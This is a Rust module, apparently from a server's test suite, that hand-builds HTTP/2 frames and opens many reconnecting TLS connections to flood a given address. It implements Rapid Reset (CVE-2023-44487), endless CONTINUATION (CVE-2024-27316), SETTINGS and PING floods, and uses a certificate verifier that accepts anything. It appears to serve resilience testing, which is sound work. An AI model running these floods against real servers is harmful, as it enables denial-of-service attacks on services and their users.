//! HTTP/2 written by hand: what no client library sends.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use rustls::client::danger::{HandshakeSignatureValid, ServerCertVerified, ServerCertVerifier};
use rustls::crypto::aws_lc_rs;
use rustls::pki_types::{CertificateDer, ServerName, UnixTime};
use rustls::{ClientConfig, DigitallySignedStruct, SignatureScheme};
use tokio::io::AsyncWriteExt as _;
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::{sleep, timeout};
use tokio_rustls::TlsConnector;

/// What is sent without end.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Kind {
    /// Requests that are taken back at once (CVE-2023-44487).
    RapidReset,
    /// A head that never ends (CVE-2024-27316).
    Continuation,
    /// Settings, each of which has to be acknowledged.
    Settings,
    /// Pings, each of which has to be answered.
    Ping,
}

impl Kind {
    pub(super) const ALL: [Self; 4] = [
        Self::RapidReset,
        Self::Continuation,
        Self::Settings,
        Self::Ping,
    ];

    pub(super) fn name(self) -> &'static str {
        match self {
            Self::RapidReset => "rapid-reset",
            Self::Continuation => "continuation",
            Self::Settings => "settings",
            Self::Ping => "ping",
        }
    }

    /// The next frames; `turn` counts from 0 on each connection.
    fn frames(self, turn: u32) -> Vec<u8> {
        const FOUR_HEADERS: &[u8] = &[
            0, 1, b'a', 1, b'b', 0, 1, b'c', 1, b'd', 0, 1, b'e', 1, b'f', 0, 1, b'g', 1, b'h',
        ];
        // GET https://x/ in HPACK's static table
        const HEAD: &[u8] = &[0x82, 0x87, 0x84, 0x41, 1, b'x'];
        match self {
            Self::RapidReset => {
                let stream = turn * 2 + 1;
                let reset = frame(3, 0, stream, &8_u32.to_be_bytes());
                [frame(1, 5, stream, HEAD), reset].concat()
            }
            Self::Continuation if turn == 0 => frame(1, 1, 1, HEAD),
            Self::Continuation => frame(9, 0, 1, FOUR_HEADERS),
            Self::Settings => frame(4, 0, 0, &[0, 4, 0, 0, 0xff, 0xff]),
            Self::Ping => frame(6, 0, 0, &u64::from(turn).to_be_bytes()),
        }
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// Connections that send, each beginning anew when it is cut.
pub(super) struct Frames {
    tasks: JoinSet<()>,
    sent: Arc<AtomicUsize>,
}

impl Frames {
    pub(super) async fn ends(mut self) -> usize {
        self.tasks.shutdown().await;
        self.sent.load(Ordering::Relaxed)
    }
}

/// Begins, and comes back when a thousand frames were sent.
pub(super) async fn flood(kind: Kind, address: SocketAddr, strangers: usize) -> Frames {
    let sent = Arc::<AtomicUsize>::default();
    let mut tasks = JoinSet::new();
    for _ in 0..strangers {
        let sent = Arc::clone(&sent);
        tasks.spawn(async move {
            loop {
                let _ = send(kind, address, &sent).await;
                sleep(Duration::from_millis(100)).await;
            }
        });
    }
    let begun = async {
        while sent.load(Ordering::Relaxed) < 1_000 {
            sleep(Duration::from_millis(10)).await;
        }
    };
    timeout(Duration::from_secs(60), begun)
        .await
        .unwrap_or_else(|_| panic!("{}: no flood comes about", kind.name()));
    Frames { tasks, sent }
}

async fn send(kind: Kind, address: SocketAddr, sent: &AtomicUsize) -> std::io::Result<()> {
    const AT_ONCE: u32 = 64;
    let stream = TcpStream::connect(address).await?;
    let name = ServerName::try_from("localhost").map_err(std::io::Error::other)?;
    let mut stream = TlsConnector::from(config()).connect(name, stream).await?;
    assert_eq!(stream.get_ref().1.alpn_protocol(), Some(&b"h2"[..]));
    stream
        .write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
        .await?;
    stream.write_all(&frame(4, 0, 0, &[])).await?;
    for batch in 0.. {
        let turns = batch * AT_ONCE..(batch + 1) * AT_ONCE;
        let frames: Vec<u8> = turns.flat_map(|turn| kind.frames(turn)).collect();
        stream.write_all(&frames).await?;
        stream.flush().await?;
        sent.fetch_add(AT_ONCE as usize, Ordering::Relaxed);
    }
    Ok(())
}

fn config() -> Arc<ClientConfig> {
    let mut config = ClientConfig::builder_with_provider(Arc::new(aws_lc_rs::default_provider()))
        .with_safe_default_protocol_versions()
        .unwrap()
        .dangerous()
        .with_custom_certificate_verifier(Arc::new(TakeAnything))
        .with_no_client_auth();
    config.alpn_protocols = vec![b"h2".to_vec()];
    Arc::new(config)
}

/// A stranger does not care whom it attacks.
#[derive(Debug)]
struct TakeAnything;

impl ServerCertVerifier for TakeAnything {
    fn verify_server_cert(
        &self,
        _: &CertificateDer<'_>,
        _: &[CertificateDer<'_>],
        _: &ServerName<'_>,
        _: &[u8],
        _: UnixTime,
    ) -> Result<ServerCertVerified, rustls::Error> {
        Ok(ServerCertVerified::assertion())
    }

    fn verify_tls12_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn verify_tls13_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn supported_verify_schemes(&self) -> Vec<SignatureScheme> {
        aws_lc_rs::default_provider()
            .signature_verification_algorithms
            .supported_schemes()
    }
}
